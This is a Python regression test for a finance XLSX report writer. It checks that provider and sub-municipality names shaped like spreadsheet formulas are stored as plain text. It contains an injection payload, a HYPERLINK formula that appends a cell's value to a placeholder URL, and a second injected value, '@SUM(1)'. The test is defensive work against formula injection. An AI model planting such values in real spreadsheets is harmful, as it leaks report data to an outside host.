"""Names in finance's XLSX report are text: a provider named "=HYPERLINK(...)" (names are
typed in at the cards desk) became a live formula in the finance officer's Excel."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from vtp.finance.reports import write_report

FORMULA = '=HYPERLINK("http://example.invalid/?q="&B2,"Details")'


def test_a_name_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    report = {
        "month": "2026-03",
        "per_payer": [],
        "per_provider": [
            {
                "provider": FORMULA,
                "sub_municipality": "@SUM(1)",
                "mode": "refund",
                "claims": 3,
                "reversed": 0,
                "net_cents": 1250,
                "provider_id": "p1",
            }
        ],
        "budget_lines": [],
    }
    xlsx, *_ = write_report(report, tmp_path)
    sheet = load_workbook(xlsx)["Per aanbieder"]
    name, sub, *_, net, _ = (cell for cell in sheet[2])
    assert (name.data_type, name.value) == ("s", FORMULA)
    assert (sub.data_type, sub.value) == ("s", "@SUM(1)")
    assert net.data_type == "n" and float(net.value) == 12.5  # amounts stay numbers
